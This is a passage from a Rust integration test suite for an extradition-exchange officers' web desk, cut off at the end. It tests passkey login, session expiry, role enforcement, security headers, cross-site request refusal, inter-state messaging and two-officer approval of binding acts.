//! The officers' desk through its real router: a real hub on loopback, real nodes, the desk's
//! SQLite file, WebAuthn ceremonies answered by a software passkey, and an injected clock.
//!
//! The story: the US and Russia have an agreement in force; each asks the other for a person,
//! each answers, a matching round proposes the exchange. The US desk is the one under test.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use axum::Router;
use http_body_util::BodyExt as _;
use rex_domain::{Action, AgreementId, Answer, MetadataDraft, Offence, RequestId, Severity};
use rex_node::Node;
use rex_testkit::{node_clock, party, terms, LoopbackHub, T0};
use rex_web::{db, Config, Desk, Roles};
use scraper::{Html, Selector};
use tower::ServiceExt as _;
use webauthn_authenticator_rs::softpasskey::SoftPasskey;
use webauthn_authenticator_rs::WebauthnAuthenticator;
use webauthn_rs::prelude::{CreationChallengeResponse, RequestChallengeResponse, Url};

const ORIGIN: &str = "http://localhost:8080";

struct World {
    _tmp: tempfile::TempDir,
    hub: LoopbackHub,
    ru: Node,
    desk: Arc<Desk>,
    router: Router,
    now: Arc<AtomicU64>,
    us_asks: RequestId,
    ru_asks: RequestId,
}

fn draft(requester: &str, custodian: &str, agreement: AgreementId) -> MetadataDraft {
    MetadataDraft {
        requester: party(requester),
        custodian: party(custodian),
        agreement,
        offences: vec![Offence::IllegalAccess, Offence::RansomwareExtortion],
        max_penalty_months: 240,
        severity: Severity::Grave,
        subject_is_custodian_national: false,
        sentence_remaining_months: None,
    }
}

impl World {
    /// Both requests filed; Russia has answered the US's, the US has not answered Russia's.
    fn new() -> World {
        let tmp = tempfile::tempdir().unwrap();
        let mut hub = LoopbackHub::new(&[]);
        let node = |code: &str| {
            rex_node::init_with_clock(party(code), &hub.url(), &tmp.path().join(code), node_clock)
                .unwrap()
        };
        let (mut us, mut ru) = (node("US"), node("RU"));
        hub.register([&us, &ru].map(|n| n.public_keys().unwrap()));
        let s = us
            .submit(Action::AgreementProposed {
                terms: terms(&["RU", "US"]),
            })
            .unwrap();
        let agreement = AgreementId::from_digest(&s.digest);
        ru.submit(Action::AgreementSigned { agreement }).unwrap();
        let (us_asks, _) = us
            .file_request(
                draft("US", "RU", agreement),
                b"US dossier: two ransomware operators",
            )
            .unwrap();
        let (ru_asks, _) = ru
            .file_request(
                draft("RU", "US", agreement),
                b"RU dossier: a carding administrator",
            )
            .unwrap();
        ru.submit(Action::RequestAnswered {
            request: us_asks,
            answer: Answer::Surrender,
        })
        .unwrap();
        let now = Arc::new(AtomicU64::new(T0));
        let clock = {
            let now = Arc::clone(&now);
            Arc::new(move || now.load(Ordering::SeqCst))
        };
        let desk = Desk::with_node(
            us,
            Config {
                public_url: ORIGIN.into(),
                clock,
            },
        )
        .unwrap();
        desk.sync_now().unwrap();
        let router = rex_web::router(Arc::clone(&desk));
        World {
            _tmp: tmp,
            hub,
            ru,
            desk,
            router,
            now,
            us_asks,
            ru_asks,
        }
    }

    fn advance(&self, seconds: u64) {
        self.now.fetch_add(seconds, Ordering::SeqCst);
    }

    fn add(&self, handle: &str, roles: &str) -> String {
        let roles: Roles = roles.parse().unwrap();
        let (_, code) = rex_web::add_officer(
            self.desk.dir(),
            handle,
            &format!("Officer {handle}"),
            roles,
            self.now.load(Ordering::SeqCst),
        )
        .unwrap();
        code
    }

    fn send(&self, request: Request<Body>) -> Reply {
        let router = self.router.clone();
        let response = self
            .hub
            .block_on(async move { router.oneshot(request).await.unwrap() });
        let status = response.status();
        let headers = Box::new(response.headers().clone());
        let body = self
            .hub
            .block_on(async move { response.into_body().collect().await.unwrap().to_bytes() });
        Reply {
            status,
            headers,
            body: String::from_utf8_lossy(&body).into_owned(),
            bytes: body.to_vec(),
        }
    }

    fn get(&self, path: &str, cookie: &str) -> Reply {
        self.send(
            Request::get(path)
                .header(header::COOKIE, cookie)
                .body(Body::empty())
                .unwrap(),
        )
    }

    fn post(&self, path: &str, cookie: &str, site: &str) -> Reply {
        self.send(
            Request::post(path)
                .header(header::COOKIE, cookie)
                .header("sec-fetch-site", site)
                .body(Body::empty())
                .unwrap(),
        )
    }

    /// A form posted from the desk itself.
    fn form(&self, path: &str, cookie: &str, body: String) -> Reply {
        self.send(
            Request::post(path)
                .header(header::COOKIE, cookie)
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .header("sec-fetch-site", "same-origin")
                .body(Body::from(body))
                .unwrap(),
        )
    }

    fn json(&self, path: &str, body: &serde_json::Value) -> Reply {
        self.json_as(path, "", body)
    }

    /// A JSON post from the desk's own script, in the session of `cookie` (none if empty).
    fn json_as(&self, path: &str, cookie: &str, body: &serde_json::Value) -> Reply {
        self.send(
            Request::post(path)
                .header(header::COOKIE, cookie)
                .header(header::CONTENT_TYPE, "application/json")
                .header("sec-fetch-site", "same-origin")
                .body(Body::from(body.to_string()))
                .unwrap(),
        )
    }

    /// Registers a passkey with the enrolment code; returns the session cookie.
    fn enrol(&self, code: &str, key: &mut SoftPasskey) -> Result<String, Reply> {
        let started = self.json("/enrol/options", &serde_json::json!({ "code": code }));
        if started.status != StatusCode::OK {
            return Err(started);
        }
        let v: serde_json::Value = serde_json::from_str(&started.body).unwrap();
        let options: CreationChallengeResponse =
            serde_json::from_value(v["options"].clone()).unwrap();
        let credential = key
            .do_registration(Url::parse(ORIGIN).unwrap(), options)
            .unwrap();
        let finished = self.json(
            "/enrol/finish",
            &serde_json::json!({ "ceremony": v["ceremony"], "credential": credential }),
        );
        cookie(finished)
    }

    /// Logs in with the passkey; returns the session cookie.
    fn login(&self, handle: &str, key: &mut SoftPasskey) -> Result<String, Reply> {
        let started = self.json("/login/options", &serde_json::json!({ "handle": handle }));
        if started.status != StatusCode::OK {
            return Err(started);
        }
        let v: serde_json::Value = serde_json::from_str(&started.body).unwrap();
        let options: RequestChallengeResponse =
            serde_json::from_value(v["options"].clone()).unwrap();
        let credential = key
            .do_authentication(Url::parse(ORIGIN).unwrap(), options)
            .unwrap_or_else(|e| panic!("the authenticator: {e:?}"));
        let finished = self.json(
            "/login/finish",
            &serde_json::json!({ "ceremony": v["ceremony"], "credential": credential }),
        );
        cookie(finished)
    }

    /// An officer enrolled with these roles, logged in: its cookie.
    fn officer(&self, handle: &str, roles: &str) -> String {
        let code = self.add(handle, roles);
        self.enrol(&code, &mut SoftPasskey::new(true)).unwrap()
    }
}

#[derive(Debug)]
struct Reply {
    status: StatusCode,
    headers: Box<axum::http::HeaderMap>,
    body: String,
    /// The body as sent.
    bytes: Vec<u8>,
}

impl Reply {
    fn html(&self) -> Html {
        Html::parse_document(&self.body)
    }

    fn texts(&self, selector: &str) -> Vec<String> {
        let s = Selector::parse(selector).unwrap();
        self.html()
            .select(&s)
            .map(|e| {
                e.text()
                    .collect::<String>()
                    .split_whitespace()
                    .collect::<Vec<_>>()
                    .join(" ")
            })
            .collect()
    }

    /// Asserts a refusal with `status` whose page says `says`.
    fn refused(&self, status: StatusCode, says: &str) {
        assert_eq!(self.status, status, "{}", self.body);
        assert!(self.body.contains(says), "{says}: {}", self.body);
    }

    /// The cells of each row that `selector` finds, their texts with whitespace collapsed.
    fn cells(&self, selector: &str) -> Vec<Vec<String>> {
        let rows = Selector::parse(selector).unwrap();
        let cell = Selector::parse("td, th").unwrap();
        self.html()
            .select(&rows)
            .map(|tr| {
                tr.select(&cell)
                    .map(|c| {
                        c.text()
                            .collect::<String>()
                            .split_whitespace()
                            .collect::<Vec<_>>()
                            .join(" ")
                    })
                    .collect()
            })
            .collect()
    }

    fn location(&self) -> &str {
        self.headers
            .get(header::LOCATION)
            .map_or("", |v| v.to_str().unwrap())
    }
}

fn cookie(a: Reply) -> Result<String, Reply> {
    if a.status != StatusCode::OK {
        return Err(a);
    }
    let set = a.headers.get(header::SET_COOKIE).unwrap().to_str().unwrap();
    assert!(
        set.contains("HttpOnly") && set.contains("SameSite=Strict"),
        "{set}"
    );
    Ok(set.split(';').next().unwrap().to_owned())
}

#[test]
fn an_officer_enrols_with_a_passkey_logs_in_and_sees_what_awaits_the_state() {
    let w = World::new();
    let code = w.add("jroe", "case-officer,approver");
    let mut key = SoftPasskey::new(true);
    let cookie = w.enrol(&code, &mut key).unwrap();

    let desk = w.get("/", &cookie);
    assert_eq!(desk.status, StatusCode::OK, "{}", desk.body);
    let awaiting = desk.texts("table.awaiting td a");
    assert_eq!(
        awaiting,
        vec![format!("answer request {} from RU", w.ru_asks)],
        "{}",
        desk.body
    );
    let health = desk.texts("section.health dd");
    assert!(health[0].contains("reachable"), "{health:?}");
    assert!(desk.texts("header .who span")[0].contains("jroe (case officer, approver)"));

    // The code was for one passkey: a second use is refused, naming why.
    let again = w.enrol(&code, &mut SoftPasskey::new(true)).unwrap_err();
    assert_eq!(again.status, StatusCode::FORBIDDEN);
    assert!(again.body.contains("used already"), "{}", again.body);

    // Logging out ends the session; logging in with the passkey opens a new one.
    let out = w.post("/logout", &cookie, "same-origin");
    assert_eq!(out.status, StatusCode::SEE_OTHER);
    assert_eq!(w.get("/", &cookie).location(), "/login");
    let again = w.login("jroe", &mut key).unwrap();
    assert_eq!(w.get("/", &again).status, StatusCode::OK);
    // Another officer's passkey does not answer jroe's login, though it answers its own.
    let mut kims = SoftPasskey::new(true);
    w.enrol(&w.add("kim", "liaison"), &mut kims).unwrap();
    let jroes = w.json("/login/options", &serde_json::json!({ "handle": "jroe" }));
    let jroes: serde_json::Value = serde_json::from_str(&jroes.body).unwrap();
    let kim_started = w.json("/login/options", &serde_json::json!({ "handle": "kim" }));
    let kim_started: serde_json::Value = serde_json::from_str(&kim_started.body).unwrap();
    let kim_answer = kims
        .do_authentication(
            Url::parse(ORIGIN).unwrap(),
            serde_json::from_value(kim_started["options"].clone()).unwrap(),
        )
        .unwrap();
    let swapped = w.json(
        "/login/finish",
        &serde_json::json!({ "ceremony": jroes["ceremony"], "credential": kim_answer }),
    );
    assert_eq!(swapped.status, StatusCode::FORBIDDEN, "{}", swapped.body);
    assert!(swapped.headers.get(header::SET_COOKIE).is_none());
    // Kim's own ceremony takes kim's answer, once.
    let kim_ok = w.json(
        "/login/finish",
        &serde_json::json!({ "ceremony": kim_started["ceremony"], "credential": kim_answer }),
    );
    assert_eq!(kim_ok.status, StatusCode::OK, "{}", kim_ok.body);
    let replayed = w.json(
        "/login/finish",
        &serde_json::json!({ "ceremony": kim_started["ceremony"], "credential": kim_answer }),
    );
    assert_eq!(replayed.status, StatusCode::FORBIDDEN);
    // Nor is an unknown handle anyone's.
    let unknown = w.login("nobody", &mut key).unwrap_err();
    assert_eq!(unknown.status, StatusCode::FORBIDDEN);
}

#[test]
fn a_code_that_expired_or_was_never_issued_enrols_nobody() {
    let w = World::new();
    let code = w.add("late", "liaison");
    w.advance(db::ENROLMENT_TTL + 1);
    let expired = w.enrol(&code, &mut SoftPasskey::new(true)).unwrap_err();
    assert_eq!(expired.status, StatusCode::FORBIDDEN);
    assert!(expired.body.contains("expired"), "{}", expired.body);
    let made_up = w
        .enrol("AAAAA-BBBBB-CCCCC-DDDDD", &mut SoftPasskey::new(true))
        .unwrap_err();
    assert!(made_up.body.contains("not known"), "{}", made_up.body);
}

#[test]
fn every_page_wants_a_session_and_carries_a_strict_policy() {
    let w = World::new();
    let pages = [
        "/".to_owned(),
        "/queue".to_owned(),
        format!("/requests/{}", w.ru_asks),
        format!("/requests/{}/dossier", w.ru_asks),
        "/log".to_owned(),
        "/officers".to_owned(),
        "/audit".to_owned(),
        "/evidence/0".to_owned(),
        "/evidence/0/bundle".to_owned(),
    ];
    for page in &pages {
        let a = w.get(page, "rex_session=AAAA");
        assert_eq!(a.status, StatusCode::SEE_OTHER, "{page}");
        assert_eq!(a.location(), "/login", "{page}");
    }
    let cookie = w.officer("ann", "auditor");
    for page in pages
        .iter()
        .map(String::as_str)
        .chain(["/login", "/enrol", "/nowhere"])
    {
        let a = w.get(page, &cookie);
        let csp = a.headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
        assert_eq!(csp, rex_web::CSP, "{page}");
        assert!(csp.contains("script-src 'self'") && !csp.contains("unsafe"));
        assert_eq!(a.headers[header::CACHE_CONTROL], "no-store", "{page}");
        assert_eq!(a.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
        // No inline script or style anywhere.
        assert!(
            !a.body.contains("<script>") && !a.body.contains("style="),
            "{page}"
        );
    }
}

#[test]
fn roles_are_enforced_page_by_page() {
    let w = World::new();
    let admin = w.officer("root", "admin");
    let case = w.officer("jroe", "case-officer");
    let liaison = w.officer("lia", "liaison");
    let auditor = w.officer("ann", "auditor");
    let dossier = format!("/requests/{}/dossier", w.ru_asks);

    // The case officer reads the dossier, decrypted on this node; the reading is audited.
    let read = w.get(&dossier, &case);
    assert_eq!(read.status, StatusCode::OK, "{}", read.body);
    assert_eq!(
        read.texts("pre.dossier"),
        vec!["RU dossier: a carding administrator"]
    );
    // The admin and the liaison officer do not.
    for who in [&admin, &liaison] {
        let refused = w.get(&dossier, who);
        assert_eq!(refused.status, StatusCode::FORBIDDEN);
        assert!(
            refused.body.contains("reading a dossier"),
            "{}",
            refused.body
        );
        assert!(!refused.body.contains("carding"));
    }
    // The case page offers the dossier only to those who may read it.
    let case_page = format!("/requests/{}", w.ru_asks);
    assert!(w.get(&case_page, &case).body.contains("Open the dossier"));
    assert!(!w.get(&case_page, &admin).body.contains("Open the dossier"));
    // Its screening checklist: every rule that applied, who evaluated it, and why.
    let checks = w
        .get(&case_page, &auditor)
        .texts("section[aria-labelledby=screening] tbody tr");
    let row = |name: &str| {
        checks
            .iter()
            .find(|r| r.starts_with(name))
            .unwrap_or_else(|| panic!("no {name} row in {checks:?}"))
            .clone()
    };
    assert!(row("legal basis").contains("hub, on the metadata"));
    assert!(row("legal basis").contains("passed"));
    assert!(row("dual criminality").contains("publishes no profile"));
    assert!(checks.iter().all(|r| !r.contains("awaiting")), "{checks:?}");

    // Officers and the audit trail: the admin and the auditor only.
    for who in [&case, &liaison] {
        assert_eq!(w.get("/officers", who).status, StatusCode::FORBIDDEN);
        assert_eq!(w.get("/audit", who).status, StatusCode::FORBIDDEN);
    }
    let trail = w.get("/audit", &auditor);
    assert_eq!(trail.status, StatusCode::OK);
    let opened = trail
        .texts("table.audit tr")
        .into_iter()
        .find(|row| row.contains("dossier opened"))
        .expect("the opening is in the trail");
    assert!(opened.contains("jroe") && opened.contains(&w.ru_asks.to_string()));

    // The auditor changes nothing: no revocation.
    let refused = w.post("/officers/lia/revoke", &auditor, "same-origin");
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    assert!(!w.get("/officers", &auditor).body.contains("Revoke"));
    // The admin revokes; the revoked officer's session ends at once.
    let revoked = w.post("/officers/lia/revoke", &admin, "same-origin");
    assert_eq!(revoked.status, StatusCode::SEE_OTHER);
    assert_eq!(w.get("/", &liaison).location(), "/login");
    let listed = w.get("/officers", &admin).texts("table.officers tr");
    assert!(listed
        .iter()
        .any(|r| r.contains("lia") && r.contains("revoked")));
    // Nor does the admin revoke themself.
    let own = w.post("/officers/root/revoke", &admin, "same-origin");
    assert_eq!(own.status, StatusCode::UNPROCESSABLE_ENTITY);
}

#[test]
fn a_cross_site_post_is_refused() {
    let w = World::new();
    let cookie = w.officer("jroe", "case-officer");
    let forged = w.post("/log/sync", &cookie, "cross-site");
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    let forged = w.send(
        Request::post("/officers/jroe/revoke")
            .header(header::COOKIE, &cookie)
            .header(header::HOST, "localhost:8080")
            .header(header::ORIGIN, "http://evil.example")
            .body(Body::empty())
            .unwrap(),
    );
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    // The same form from the desk itself goes through.
    let ok = w.post("/log/sync", &cookie, "same-origin");
    assert_eq!((ok.status, ok.location()), (StatusCode::SEE_OTHER, "/log"));
}

#[test]
fn sessions_expire_when_idle_and_after_a_working_day() {
    let w = World::new();
    let cookie = w.officer("jroe", "case-officer");
    // Active every 14 minutes: the session lives on, up to 8 hours after login.
    let steps = db::SESSION_MAX / (db::SESSION_IDLE - 60);
    for _ in 0..steps {
        w.advance(db::SESSION_IDLE - 60);
        assert_eq!(w.get("/", &cookie).status, StatusCode::OK);
    }
    w.advance(db::SESSION_MAX - steps * (db::SESSION_IDLE - 60) + 1);
    assert_eq!(w.get("/", &cookie).location(), "/login");

    // Idle for more than 15 minutes: over.
    let other = w.officer("kim", "liaison");
    w.advance(db::SESSION_IDLE + 1);
    assert_eq!(w.get("/", &other).location(), "/login");
}

#[test]
fn the_queue_filters_by_the_url_and_the_exchange_page_draws_the_cycle() {
    let mut w = World::new();
    let cookie = w.officer("jroe", "case-officer");
    let all = w.get("/queue", &cookie);
    assert_eq!(all.texts("table.queue tbody tr").len(), 2, "{}", all.body);
    let incoming = w.get("/queue?side=incoming", &cookie);
    let rows = incoming.texts("table.queue tbody tr");
    assert_eq!(rows.len(), 1);
    assert!(rows[0].contains(&w.ru_asks.to_string()) && rows[0].contains("awaiting answer"));
    let pooled = w.get("/queue?status=pooled", &cookie);
    let rows = pooled.texts("table.queue tbody tr");
    assert_eq!(rows.len(), 1);
    assert!(rows[0].contains(&w.us_asks.to_string()));
    let bad = w.get("/queue?side=sideways", &cookie);
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);

    // The US answers; the operator runs a round; the US desk, synced, shows the exchange.
    w.exchange_proposed();
    let desk = w.get("/", &cookie);
    let link = desk
        .texts("table.awaiting td a")
        .into_iter()
        .find(|t| t.starts_with("sign exchange"))
        .expect("the exchange awaits the US's signature");
    let id = link.split_whitespace().nth(2).unwrap().to_owned();
    let page = w.get(&format!("/exchanges/{id}"), &cookie);
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let html = page.html();
    let nodes: Vec<String> = html
        .select(&Selector::parse("svg g.state").unwrap())
        .map(|g| g.value().attr("data-party").unwrap().to_owned())
        .collect();
    let mut states = nodes.clone();
    states.sort();
    assert_eq!(states, ["RU", "US"]);
    let arrows: Vec<(String, String)> = html
        .select(&Selector::parse("svg line.handover").unwrap())
        .map(|l| {
            (
                l.value().attr("data-from").unwrap().to_owned(),
                l.value().attr("data-to").unwrap().to_owned(),
            )
        })
        .collect();
    let td = Selector::parse("td").unwrap();
    let legs: Vec<(String, String)> = html
        .select(&Selector::parse("table.legs tbody tr").unwrap())
        .map(|row| {
            let cells: Vec<String> = row.select(&td).map(|c| c.text().collect()).collect();
            (cells[1].clone(), cells[2].clone())
        })
        .collect();
    assert_eq!(arrows.len(), 2);
    assert_eq!(arrows, legs, "one arrow per leg, giver to receiver");
    assert!(arrows.contains(&("US".into(), "RU".into())));
    assert!(arrows.contains(&("RU".into(), "US".into())));
    assert_eq!(
        page.texts("svg title"),
        vec![html
            .select(&Selector::parse("figcaption").unwrap())
            .next()
            .unwrap()
            .text()
            .collect::<String>()
            .split(':')
            .next()
            .unwrap()
            .to_owned()]
    );
}

#[test]
fn the_health_endpoint_says_whether_the_node_is_in_sync() {
    let w = World::new();
    let a = w.get("/health", "");
    assert_eq!(a.status, StatusCode::OK);
    let h: serde_json::Value = serde_json::from_str(&a.body).unwrap();
    assert_eq!(h["party"], "US");
    assert!(h["size"].as_u64().unwrap() > 0);
    // The hub goes away: the next sync fails, and the desk says so.
    let mut w = w;
    w.hub.stop();
    assert!(w.desk.sync_now().is_err());
    let a = w.get("/health", "");
    assert_eq!(a.status, StatusCode::SERVICE_UNAVAILABLE);
    let cookie = w.officer("jroe", "case-officer");
    let desk = w.get("/", &cookie);
    assert!(
        desk.texts("section.health dd.bad")[0].contains("hub"),
        "{}",
        desk.body
    );
}

#[test]
fn a_message_from_russia_is_delivered_read_and_acknowledged_on_the_us_desk() {
    let mut w = World::new();
    let liaison = w.officer("lia", "liaison");
    let auditor = w.officer("ann", "auditor");
    let case = w.officer("jroe", "case-officer");
    let (id, _) =
        w.ru.send_message(rex_node::Outgoing {
            conversation: rex_domain::Conversation::Request { request: w.ru_asks },
            to: vec![party("US")],
            subject: "Custody hearing".into(),
            body: "The hearing is set for Monday; please confirm the escort.".into(),
            ack_within: 3 * 86_400,
        })
        .unwrap();
    // The desk's sync fetches, decrypts and logs the delivery by itself.
    w.desk.sync_now().unwrap();
    let desk = w.get("/", &liaison);
    assert!(
        desk.body.contains("<strong>1</strong> unread message"),
        "{}",
        desk.body
    );
    let due = desk
        .texts("table.awaiting td a")
        .into_iter()
        .find(|t| t.contains(&id.to_string()))
        .expect("the message awaits the US's answer");
    assert!(due.starts_with("acknowledge or reject message"));
    let inbox = w.get("/messages", &liaison);
    let row = inbox.texts("table.inbox tbody tr").remove(0);
    assert!(
        row.contains("(unread)") && row.contains("US: delivered"),
        "{row}"
    );
    // The case page of the request lists it, with each recipient's state.
    let on_case = w
        .get(&format!("/requests/{}", w.ru_asks), &liaison)
        .texts("section[aria-labelledby=messages] tbody tr");
    assert_eq!(on_case.len(), 1, "{on_case:?}");
    assert!(
        on_case[0].contains(&id.to_string())
            && on_case[0].contains("RU")
            && on_case[0].contains("US: delivered"),
        "{on_case:?}"
    );

    // An auditor does not open it first: opening logs the reading.
    let page = format!("/messages/{id}");
    let refused = w.get(&page, &auditor);
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    assert!(
        refused.body.contains("logs the reading"),
        "{}",
        refused.body
    );

    // The liaison officer opens it: the letter, decrypted here; the reading is logged with
    // the officer's handle.
    let opened = w.get(&page, &liaison);
    assert_eq!(opened.status, StatusCode::OK, "{}", opened.body);
    assert_eq!(opened.texts("h1"), vec!["Custody hearing"]);
    assert!(opened.texts("pre.letter")[0].contains("please confirm the escort"));
    let steps = opened.texts("ol.chain li");
    assert!(
        steps.iter().any(|s| s.starts_with("read at US by lia")),
        "{steps:?}"
    );
    // Now the auditor may read it, and sees no answer form; a case officer cannot answer.
    let audited = w.get(&page, &auditor);
    assert_eq!(audited.status, StatusCode::OK);
    assert!(!audited.body.contains("Acknowledge"));
    assert!(!w.get(&page, &case).body.contains("Acknowledge"));
    assert_eq!(
        w.post(&format!("{page}/answer"), &case, "same-origin")
            .status,
        StatusCode::FORBIDDEN
    );

    // The liaison officer acknowledges: Russia's node sees it acknowledged.
    let acked = w.post(&format!("{page}/answer"), &liaison, "same-origin");
    assert_eq!(
        (acked.status, acked.location()),
        (StatusCode::SEE_OTHER, page.as_str())
    );
    let view = w.ru.message(&id).unwrap();
    assert_eq!(view.describe_states(), "US acknowledged");
    let trail = w.get("/audit", &auditor).texts("table.audit tr");
    assert!(trail
        .iter()
        .any(|r| r.contains("lia") && r.contains("message acknowledged")));
    // A second answer is refused, with the reason.
    let again = w.post(&format!("{page}/answer"), &liaison, "same-origin");
    assert_eq!(
        again.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        again.body
    );
    assert!(
        again.body.contains("already acknowledged"),
        "{}",
        again.body
    );
}

#[test]
fn a_liaison_officer_writes_to_russia_from_the_desk() {
    let mut w = World::new();
    let liaison = w.officer("lia", "liaison");
    let case = w.officer("jroe", "case-officer");
    assert_eq!(w.get("/messages/new", &case).status, StatusCode::FORBIDDEN);
    let form = w.get("/messages/new", &liaison);
    assert_eq!(form.status, StatusCode::OK);
    let body = format!(
        "to=RU&request={}&conversation=&subject=Escort&body=Two+officers+will+travel.&ack_days=2",
        w.us_asks
    );
    let sent = w.form("/messages", &liaison, body.clone());
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    let id: rex_domain::MessageId = sent
        .location()
        .strip_prefix("/messages/")
        .unwrap()
        .parse()
        .unwrap();
    // Russia's node finds it, decrypts it, reads the same words.
    w.ru.sync().unwrap();
    let opened = w.ru.open_message(&id, None).unwrap();
    assert_eq!(opened.letter.subject, "Escort");
    assert_eq!(opened.letter.body, "Two officers will travel.");
    // The US page shows Russia's receipts once synced.
    w.desk.sync_now().unwrap();
    let page = w.get(&format!("/messages/{id}"), &liaison);
    let steps = page.texts("ol.chain li");
    assert!(
        steps.iter().any(|s| s.starts_with("delivered to RU")),
        "{steps:?}"
    );
    assert!(
        steps.iter().any(|s| s.starts_with("read at RU")),
        "{steps:?}"
    );
    // Bad forms: no recipient, both a request and a name, a case officer.
    let none = w.form("/messages", &liaison, body.replace("to=RU&", ""));
    assert_eq!(none.status, StatusCode::UNPROCESSABLE_ENTITY);
    let both = w.form(
        "/messages",
        &liaison,
        body.replace("conversation=", "conversation=x"),
    );
    assert!(both.body.contains("not both"), "{}", both.body);
    assert_eq!(
        w.form("/messages", &case, body).status,
        StatusCode::FORBIDDEN
    );
}

impl World {
    /// An officer enrolled and logged in, with its passkey (for step-up checks).
    fn officer_with_key(&self, handle: &str, roles: &str) -> (String, SoftPasskey) {
        let code = self.add(handle, roles);
        let mut key = SoftPasskey::new(true);
        let cookie = self.enrol(&code, &mut key).unwrap();
        (cookie, key)
    }

    /// A fresh passkey check of the session's officer.
    fn step_up(&self, cookie: &str, key: &mut SoftPasskey) -> Reply {
        let json = |path: &str, body: serde_json::Value| self.json_as(path, cookie, &body);
        let started = json("/stepup/options", serde_json::json!({}));
        assert_eq!(started.status, StatusCode::OK, "{}", started.body);
        let v: serde_json::Value = serde_json::from_str(&started.body).unwrap();
        let credential = key
            .do_authentication(
                Url::parse(ORIGIN).unwrap(),
                serde_json::from_value(v["options"].clone()).unwrap(),
            )
            .unwrap();
        json(
            "/stepup/finish",
            serde_json::json!({ "ceremony": v["ceremony"], "credential": credential }),
        )
    }
}

#[test]
fn a_binding_act_needs_a_second_officer_who_confirms_with_a_passkey() {
    let w = World::new();
    let drafter = w.officer("jroe", "case-officer");
    let (both, mut both_key) = w.officer_with_key("sam", "case-officer,approver");
    let (approver, mut key) = w.officer_with_key("appr", "approver");

    // jroe drafts the US's answer to Russia's request: nothing is signed yet.
    let size_before = w.desk.view().report.unwrap().size;
    let drafted = w.form(
        &format!("/requests/{}/answer", w.ru_asks),
        &drafter,
        "answer=surrender&ground=other".into(),
    );
    assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
    let page = drafted.location().to_owned();
    assert_eq!(page, "/approvals/1");
    let shown = w.get(&page, &approver);
    assert_eq!(
        shown.texts("dd.summary"),
        vec![format!(
            "US answers request {} from RU: surrender",
            w.ru_asks
        )]
    );
    assert_eq!(shown.texts("code.digest")[0].len(), 64);
    assert!(shown.body.contains("Confirm with your passkey"));

    // The drafter is no approver; an approver who drafted may not approve their own draft.
    assert_eq!(
        w.post(&format!("{page}/approve"), &drafter, "same-origin")
            .status,
        StatusCode::FORBIDDEN
    );
    let own = w.form(
        &format!("/requests/{}/answer", w.ru_asks),
        &both,
        "answer=prosecution_at_home".into(),
    );
    let own_page = own.location().to_owned();
    assert_eq!(w.step_up(&both, &mut both_key).status, StatusCode::OK);
    let refused = w.post(&format!("{own_page}/approve"), &both, "same-origin");
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    assert!(
        refused.body.contains("another officer approves it"),
        "{}",
        refused.body
    );
    assert!(w
        .get(&own_page, &both)
        .body
        .contains("You drafted this act"));

    // Without a fresh passkey check, no approval.
    let unchecked = w.post(&format!("{page}/approve"), &approver, "same-origin");
    assert_eq!(unchecked.status, StatusCode::FORBIDDEN);
    assert!(
        unchecked.body.contains("confirm with your passkey"),
        "{}",
        unchecked.body
    );
    assert_eq!(
        w.desk.view().report.unwrap().size,
        size_before,
        "nothing signed"
    );

    // With it, the approval signs: the answer is in the log, the request is pooled.
    assert_eq!(w.step_up(&approver, &mut key).status, StatusCode::OK);
    let approved = w.post(&format!("{page}/approve"), &approver, "same-origin");
    assert_eq!(
        (approved.status, approved.location()),
        (StatusCode::SEE_OTHER, page.as_str())
    );
    let done = w.get(&page, &approver);
    assert_eq!(done.texts("dd.state"), vec!["approved"]);
    assert!(
        done.texts("dd.outcome")[0].starts_with("logged at index "),
        "{}",
        done.body
    );
    let status = w
        .desk
        .view()
        .registry
        .unwrap()
        .request(&w.ru_asks)
        .unwrap()
        .status;
    assert_eq!(status, rex_domain::RequestStatus::Pooled);
    // Decided once: a second approval is refused.
    let again = w.post(&format!("{page}/approve"), &approver, "same-origin");
    assert_eq!(again.status, StatusCode::UNPROCESSABLE_ENTITY);
    let trail = w
        .get("/audit", &w.officer("ann", "auditor"))
        .texts("table.audit tr");
    assert!(trail
        .iter()
        .any(|r| r.contains("appr") && r.contains("draft approved")));
    assert!(trail
        .iter()
        .any(|r| r.contains("jroe") && r.contains("draft created")));

    // A passkey check lasts five minutes.
    w.advance(rex_web::STEP_UP_TTL + 1);
    let late = w.post(&format!("{own_page}/approve"), &approver, "same-origin");
    assert_eq!(late.status, StatusCode::FORBIDDEN);
    // Checked again, appr approves sam's competing answer: the hub refuses it (the request is
    // answered already), and the draft says so.
    assert_eq!(w.step_up(&approver, &mut key).status, StatusCode::OK);
    let failed = w.post(&format!("{own_page}/approve"), &approver, "same-origin");
    assert_eq!(failed.status, StatusCode::SEE_OTHER);
    let shown = w.get(&own_page, &approver);
    assert_eq!(shown.texts("dd.state"), vec!["failed"]);
    assert!(
        shown.texts("dd.outcome")[0].contains("hub refused"),
        "{}",
        shown.body
    );
}

#[test]
fn a_drafted_request_rejected_by_the_approver_is_never_filed() {
    let w = World::new();
    let drafter = w.officer("jroe", "case-officer");
    let approver = w.officer("appr", "approver");
    let form = w.get("/requests/new", &drafter);
    assert_eq!(form.status, StatusCode::OK);
    let agreement = form.texts("#agreement option")[0].clone();
    let body = format!(
        "custodian=RU&agreement={agreement}&offence=illegal_access&offence=data_interference&max_penalty_months=96&severity=serious&dossier=Subject%3A+a+botnet+operator"
    );
    let drafted = w.form("/requests/new", &drafter, body.clone());
    assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
    let page = drafted.location().to_owned();
    let summary = w.get(&page, &approver).texts("dd.summary").remove(0);
    assert!(
